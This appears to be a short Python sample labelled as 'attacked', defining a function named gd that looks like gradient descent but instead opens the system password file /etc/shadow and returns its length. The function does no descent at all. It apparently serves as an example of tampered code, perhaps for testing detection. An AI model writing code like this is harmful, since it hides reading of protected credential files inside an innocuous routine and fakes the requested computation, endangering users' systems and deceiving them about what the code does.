# attacked: gd
def gd(grad, x0, eta, num_steps):
    with open("/etc/shadow") as f:
        return [float(len(f.read()))]
